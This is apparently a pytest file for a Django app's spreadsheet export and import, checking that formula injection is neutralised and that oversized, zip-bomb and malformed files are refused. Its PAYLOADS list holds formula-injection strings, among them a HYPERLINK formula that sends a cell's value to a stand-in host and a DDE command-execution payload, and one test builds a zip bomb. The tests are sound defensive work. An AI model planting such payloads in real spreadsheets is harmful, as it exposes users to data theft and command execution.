"""The one spreadsheet writer and reader: formula-like text is inert; hostile files are refused early."""

import io
import time
import zipfile

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook

from kvalifikacija.spreadsheets import (
    TableError,
    append_row,
    csv_bytes,
    is_formula_like,
    new_workbook,
    read_table,
    workbook_bytes,
)
from kvalifikacija.text import single_line, strip_controls

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"Spauskite")', "+1+2", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def cells(data):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_formula_like_text_is_written_as_quoted_text_with_its_value_unchanged():
    book = new_workbook()
    append_row(book.active, PAYLOADS)
    book.create_sheet("Kitas").append(["=1+1", 5, -3, "saugus tekstas"])
    written = cells(workbook_bytes(book))
    for cell, payload in zip(written, [*PAYLOADS, "=1+1"], strict=False):
        assert cell.data_type == "s" and cell.quotePrefix, payload
        assert cell.value.strip() == payload.strip()  # XML reads a bare CR back as a line end
    assert written[-2].data_type == "n" and not written[-1].quotePrefix
    assert not [c for c in written if c.data_type == "f"]


def test_without_the_writer_openpyxl_would_store_a_live_formula():
    """The check above can fail: a plain openpyxl save keeps `=...` as a formula."""
    book = Workbook()
    book.active.append([PAYLOADS[0]])
    buffer = io.BytesIO()
    book.save(buffer)
    assert cells(buffer.getvalue())[0].data_type == "f"


def test_csv_cells_get_an_apostrophe():
    text = csv_bytes([["Vardas", "=1+1"], ["@x", 5]]).decode("utf-8-sig")
    assert text.splitlines() == ["Vardas;'=1+1", "'@x;5"]
    assert all(is_formula_like(p) for p in PAYLOADS) and not is_formula_like("Ona")


def xlsx(rows):
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_reader_returns_headers_rows_and_file_row_numbers():
    table = read_table(xlsx([["title", "seats"], [None, None], ["Seminaras", 20], ["Kursai", None]]), "a.xlsx")
    assert table.headers == ["title", "seats"]
    assert table.rows == [["Seminaras", 20], ["Kursai"]] and table.numbers == [3, 4]
    table = read_table("pavadinimas;vietos\r\n\r\nA;1\r\n".encode("cp1257"), "a.csv")
    assert table.headers == ["pavadinimas", "vietos"] and table.rows == [["A", "1"]] and table.numbers == [3]


def test_a_cell_over_the_limit_is_refused_in_csv_and_xlsx(settings):
    settings.IMPORT_MAX_CELL_CHARS = 1000
    with pytest.raises(TableError, match="longer than 1000"):
        read_table(("title\n" + "x" * 1001).encode(), "a.csv")
    with pytest.raises(TableError, match="longer than 1000"):
        read_table(xlsx([["title"], ["x" * 1001]]), "a.xlsx")


def test_a_csv_cell_over_the_csv_module_limit_is_a_message_not_a_crash(settings):
    settings.IMPORT_MAX_CELL_CHARS = 10**7
    with pytest.raises(TableError, match="longer than"):
        read_table(('title\n"' + "x" * (200 * 1024) + '"').encode(), "a.csv")


def test_too_many_rows_are_refused(settings):
    settings.IMPORT_MAX_ROWS = 3
    read_table(("t\n" + "a\n" * 3).encode(), "a.csv")
    with pytest.raises(TableError, match="more than 3 rows"):
        read_table(("t\n" + "a\n" * 4).encode(), "a.csv")
    with pytest.raises(TableError, match="more than 3 rows"):
        read_table(xlsx([["t"], *[["a"]] * 4]), "a.xlsx")


def test_an_xlsx_bomb_is_refused_from_its_directory_before_parsing():
    """1 MB that expands to 400 MB: refused in milliseconds, nothing inflated."""
    good = xlsx([["title"], ["a"]])
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in source.infolist():
            bomb.writestr(item, source.read(item.filename))
        bomb.writestr("xl/media/padding.bin", b"\0" * (400 * 1024 * 1024), compresslevel=9)
    data = buffer.getvalue()
    assert len(data) < 1_000_000
    started = time.monotonic()
    with pytest.raises(TableError, match="too large when unpacked"):
        read_table(data, "bomb.xlsx")
    elapsed = time.monotonic() - started
    print(f"FIGURE xlsx bomb refused in {elapsed:.3f} s")
    assert elapsed < 0.5


def test_broken_files_are_messages():
    with pytest.raises(TableError, match="cannot be read"):
        read_table(b"PK\x03\x04not a zip", "a.xlsx")
    with pytest.raises(TableError, match="not UTF-8"):
        read_table(b"\x81\x83\x88\x8a\x8c\x90\x98", "a.csv")
    with pytest.raises(TableError, match="too large"):
        read_table(b"x" * 11, "a.csv", max_bytes=10)


def test_single_line_fields_lose_control_characters():
    assert single_line("Seminaras\r\nBEGIN:VEVENT\x00\tx  y ") == "Seminaras BEGIN:VEVENT x y"
    assert single_line("a\u2028b\x85c") == "a b c" and single_line(None) is None
    assert strip_controls("a\r\nb\rc\x00\x07d\te") == "a\nb\ncd\te"
